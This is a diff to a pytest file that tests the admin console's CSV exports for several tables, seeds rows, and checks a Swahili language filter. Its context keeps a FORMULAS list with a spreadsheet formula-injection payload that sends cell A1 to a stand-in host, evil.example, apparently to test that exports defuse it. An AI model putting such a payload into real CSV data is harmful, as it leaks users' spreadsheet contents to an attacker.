@@ -13,6 +13,8 @@ import pytest
 
 from dracarys import csv_export
 from dracarys.identity import Role
+from tests.social.conftest import from_ip, sign_up
+from tests.social.test_verification import png, submit_proof
 from tests.support import AppClient, TestUser
 
 MakeUser = Callable[..., Awaitable[TestUser]]
@@ -42,6 +44,30 @@ CONSOLE_TABLES: list[tuple[str, str, dict[str, str], str | None]] = [
         {"status": "delivered"},
         None,
     ),
+    ("/api/v1/affiliates/applications", "/api/v1/affiliates/applications.csv", {}, None),
+    ("/api/v1/referrals/refused", "/api/v1/referrals/refused.csv", {}, None),
+    ("/api/v1/staff/drips", "/api/v1/staff/drips.csv", {}, None),
+    ("/api/v1/admin/promo-codes", "/api/v1/admin/promo-codes.csv", {}, None),
+    (
+        "/api/v1/admin/notification-templates",
+        "/api/v1/admin/notification-templates.csv",
+        {"language": "sw"},
+        None,
+    ),
+    ("/api/v1/social/proofs/queue", "/api/v1/social/proofs/queue.csv", {}, None),
+]
+# A table each seeded row shows up in, with one cell of it: (CSV route, query, column,
+# the cell). The list/CSV comparison above then covers every other column of the row.
+SEEDED_CELLS: list[tuple[str, dict[str, str], str, str]] = [
+    ("/api/v1/admin/users.csv", {"q": "csv.member@example.com"}, "kyc_level", "1"),
+    ("/api/v1/admin/mentors.csv", {}, "verified", "false"),
+    ("/api/v1/points/review-queue/appeals.csv", {}, "message", "My streak bonus is missing"),
+    ("/api/v1/affiliates/applications.csv", {}, "website", "https://csv-affiliate.example"),
+    ("/api/v1/referrals/refused.csv", {}, "rule", "shared_device"),
+    ("/api/v1/staff/drips.csv", {}, "enrolments.running", "0"),
+    ("/api/v1/admin/promo-codes.csv", {}, "code", "CSV10"),
+    ("/api/v1/admin/notification-templates.csv", {"language": "sw"}, "language", "sw"),
+    ("/api/v1/social/proofs/queue.csv", {}, "profile_url", "https://www.instagram.com/csv.proof"),
 ]
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -78,7 +104,9 @@ def _rows(body: str) -> list[dict[str, str]]:
 
 
 async def _seed(client: AppClient, make_user: MakeUser) -> None:
-    """Rows in some of the tables: a member to find, a mentor to vet, appeals."""
+    """Rows in the tables: a member to find, a mentor to vet, appeals, an affiliate
+    application, a referral refused (the referee signed up on the referrer's device), a
+    promo code and a follow proof; the drip programs and notification texts are built in."""
     admin = await make_user(role=Role.ADMIN)
     await make_user(email="csv.member@example.com", kyc_level=1)
     to_vet = await make_user()
@@ -92,6 +120,31 @@ async def _seed(client: AppClient, make_user: MakeUser) -> None:
             "/api/v1/points/appeals", json={"message": message}, headers=member.headers
         )
         assert filed.status_code == 201, filed.text
+    applied = await client.post(
+        "/api/v1/affiliates/apply",
+        json={
+            "website": "https://csv-affiliate.example",
+            "audience": "Swing traders",
+            "promotion": "A weekly newsletter on risk management.",
+        },
+        headers=member.headers,
+    )
+    assert applied.status_code == 201, applied.text
+    referrer = await make_user()
+    shared_device = {**referrer.headers, **from_ip("198.51.100.60")}
+    code = (await client.get("/api/v1/referrals/me", headers=shared_device)).json()["code"]
+    await client.get(f"/r/{code}", headers=from_ip("203.0.113.60"))
+    await sign_up(client, "csv.referee@example.com", ip="203.0.113.60")
+    created = await client.post(
+        "/api/v1/admin/promo-codes",
+        json={"code": "CSV10", "kind": "percent", "percent_bps": 1000},
+        headers=admin.headers,
+    )
+    assert created.status_code == 201, created.text
+    proved = await submit_proof(
+        client, member, "instagram", "https://instagram.com/csv.proof/", png()
+    )
+    assert proved.status_code == 201, proved.text
 
 
 @pytest.mark.parametrize(("list_path", "csv_path", "query", "key"), CONSOLE_TABLES)
@@ -131,17 +184,36 @@ async def test_each_console_table_downloads_as_csv_with_the_rows_of_its_list(
 
 
 async def test_the_seeded_tables_are_not_empty(client: AppClient, make_user: MakeUser) -> None:
-    """The comparison above is not only of empty tables."""
+    """The comparison above is not only of empty tables: each has its header and the
+    seeded row."""
     await _seed(client, make_user)
-    reviewer = await make_user(role=Role.REVIEWER)
-    for path, query, count in [
-        ("/api/v1/admin/users.csv", {"q": "csv.member@example.com"}, 1),
-        ("/api/v1/admin/mentors.csv", {}, 1),
-        ("/api/v1/points/review-queue/appeals.csv", {}, 2),
-    ]:
-        response = await client.get(path, params=query, headers=reviewer.headers)
+    admin = await make_user(role=Role.ADMIN)
+    for path, query, column, value in SEEDED_CELLS:
+        response = await client.get(path, params=query, headers=admin.headers)
         assert response.status_code == 200, response.text
-        assert len(_rows(response.text)) == count, path
+        header = next(csv.reader(io.StringIO(response.text)))
+        assert column in header, (path, header)
+        assert value in {row[column] for row in _rows(response.text)}, path
+
+
+async def test_the_notification_texts_download_in_the_language_filtered(
+    client: AppClient, make_user: MakeUser
+) -> None:
+    admin = await make_user(role=Role.ADMIN)
+    every = _rows(
+        (await client.get("/api/v1/admin/notification-templates.csv", headers=admin.headers)).text
+    )
+    swahili = _rows(
+        (
+            await client.get(
+                "/api/v1/admin/notification-templates.csv",
+                params={"language": "sw"},
+                headers=admin.headers,
+            )
+        ).text
+    )
+    assert {row["language"] for row in every} == {"en", "sw"}
+    assert swahili == [row for row in every if row["language"] == "sw"]
 
 
 @pytest.mark.parametrize(("list_path", "csv_path", "query", "key"), CONSOLE_TABLES)
